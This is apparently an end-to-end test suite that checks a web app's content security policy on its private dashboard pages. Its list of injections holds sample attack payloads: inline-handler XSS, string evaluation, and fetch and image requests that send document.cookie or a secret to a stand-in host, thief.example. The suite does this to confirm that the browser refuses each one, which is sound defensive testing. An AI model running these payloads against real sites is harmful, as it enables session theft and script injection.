/**
 * Opens every private page in the content policy that closes it (docs/decisions/0070-content-policies.md): nothing of ours is refused, and
 * what an attacker might have smuggled in is.
 */
import type { Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import { isPrivatePath } from '../contract/pages/private-paths.ts'
import { fill, patterns } from './crawl/site.ts'
import { payAtPaypal, writeTip } from './page-steps.ts'
import { setUpProduct } from './product-fixture.ts'

const product = setUpProduct({ reducedMotion: 'reduce' })

/** What the browser has refused in the open document, such as `script-src: inline`. It waits for a document that is on its way. */
async function refusals(page: Page): Promise<string[]> {
  let noted: string[] | undefined
  const look = async () =>
    (noted = await page.evaluate(() => (window as unknown as Noting).refused).catch(() => undefined))
  await expect.poll(look).toBeDefined()
  return noted!
}

interface Noting {
  refused: string[]
}

function noteRefusals(): void {
  const noting = window as unknown as Noting
  noting.refused = []
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
    noting.refused.push(`${effectiveDirective}: ${blockedURI} ${sample}`.trim())
  })
}

async function visit(name?: string) {
  const visitor = await product.visit(name)
  await visitor.page.addInitScript(noteRefusals)
  return visitor
}

beforeAll(async () => {
  await product.db.updateTable('account').set({ role: 'admin' }).where('userName', '=', 'miravale').execute()
})

const places = { running: '', done: '', useruid: '', sessionId: '', email: 'ada@mail.example' }
const paths = patterns
  .filter((pattern) => isPrivatePath(pattern))
  .map((pattern) => fill(pattern, { ...places, username: 'miravale' }))

test.each([
  ['an admin who is a creator', 'mira'],
  ['a supporter', 'ada'],
  ['a visitor', undefined],
])('no private page does what its policy refuses, for %s', async (_, name) => {
  const { page: first } = await visit(name)
  const refused: Record<string, string[]> = {}
  for (const path of paths) {
    const page = await first.context().newPage() // the one before may be leaving for another document
    await page.addInitScript(noteRefusals)
    const response = await page.goto(product.url + path)
    expect([path, response!.headers()['content-security-policy']]).toEqual([
      path,
      expect.stringContaining("require-trusted-types-for 'script'"),
    ])
    await page.getByRole('heading', { level: 1, includeHidden: true }).first().waitFor()
    await page.waitForLoadState('networkidle')
    const found = await refusals(page)
    if (found.length > 0) refused[path] = found
    await page.close()
  }
  expect(refused).toEqual({})
  expect(paths.length).toBeGreaterThan(30)
})

test('dialogs, the code of an authenticator app and the service worker work in the policy', async () => {
  const { page, open } = await visit('otto')
  await open('/dashboard/account-setting')
  await page.getByRole('button', { name: 'Delete my account…' }).click()
  await page.getByRole('dialog').waitFor()

  const locked = page.locator('style[nonce]')
  await expect.poll(() => locked.count()).toBe(1)
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe('hidden')
  await page.keyboard.press('Escape')
  const worker = await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.scriptURL)
  expect(worker).toBe(`${product.url}/service-worker.js`)
  expect(await refusals(page)).toEqual([])
})

/** What an attacker plants, and the directive that refuses it. */
const injections: [string, string, () => unknown][] = [
  [
    'markup from a text',
    'require-trusted-types-for',
    () => {
      document.body.innerHTML = '<img src="x" onerror="window.planted = true">'
    },
  ],
  [
    'a handler in an attribute',
    'require-trusted-types-for',
    () => {
      const image = document.createElement('img')
      document.body.append(image)
      image.setAttribute('onerror', 'window.planted = true')
    },
  ],
  [
    'a text that is run',
    'require-trusted-types-for',
    () => void setTimeout('window.planted = true' as unknown as () => void),
  ],
  [
    'a style',
    'style-src-elem',
    () => {
      const style = document.createElement('style')
      style.append('h1 { --planted: yes }')
      document.head.append(style)
    },
  ],
  [
    'a message to a thief',
    'connect-src',
    () => fetch('https://thief.example/', { method: 'POST', body: document.cookie }),
  ],
  [
    'a picture at a thief',
    'img-src',
    () => void Object.assign(new Image(), { src: 'https://thief.example/?secret' }),
  ],
  [
    'a policy of its own',
    'trusted-types',
    () => (window as unknown as TypedWindow).trustedTypes.createPolicy('thief', { createHTML: String }),
  ],
]

interface TypedWindow {
  trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
}

test.each(injections)('%s is refused by %s', async (_, directive, plant) => {
  const { page, open } = await visit('otto')
  await open('/dashboard/account-setting')
  await page.getByText('This browser').waitFor()

  await page.evaluate(`(async () => { try { await (${plant.toString()})() } catch {} })()`)

  await expect.poll(() => refusals(page)).toEqual([expect.stringContaining(`${directive}: `)])
  expect(await page.evaluate(() => 'planted' in window)).toBe(false)
  expect(
    await page.evaluate(() => getComputedStyle(document.querySelector('h1')!).getPropertyValue('--planted')),
  ).toBe('')
})

test('scripts of providers are refused there, also as elements of their own', async () => {
  const { page, open } = await visit('otto')
  await open('/dashboard')
  await page.waitForLoadState('networkidle')

  await page.evaluate(() => {
    const parsed = document.implementation.createHTMLDocument('').createElement('script')
    parsed.setAttribute('data-from', 'paypal')
    document.head.append(parsed)
    try {
      parsed.src = 'https://www.paypal.com/sdk/js'
    } catch {
      /* refused */
    }
  })

  await expect.poll(() => refusals(page)).not.toEqual([])
  expect(
    await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name)),
  ).not.toContain('https://www.paypal.com/sdk/js')
})

test('from a creator’s page to the dashboard and back, each page has a document of its own policy, and a tip can be paid', async () => {
  const { page, open, takeErrors } = await visit('ada')
  await open('/miravale/tips')
  const documents: string[] = []
  page.on('response', (response) => {
    if (!response.request().isNavigationRequest() || response.frame() !== page.mainFrame()) return
    const isClosed = (response.headers()['content-security-policy'] ?? '').includes('trusted-types')
    documents.push(`${new URL(response.url()).pathname} ${isClosed ? 'closed' : 'open'}`)
  })

  await page
    .getByRole('banner')
    .getByRole('link', { name: /^Dashboard/ })
    .click()
  await expect.poll(() => documents).toEqual(['/dashboard closed'])
  await page.getByRole('heading', { level: 1 }).first().waitFor()
  await page.goBack()
  await expect.poll(() => documents.at(-1)).toBe('/miravale/tips open')
  await writeTip(page, { amount: '6', name: 'Back Again' })
  await payAtPaypal(page)

  await page.getByText('Payment Successful!').waitFor()
  expect(takeErrors()).toEqual([])
})
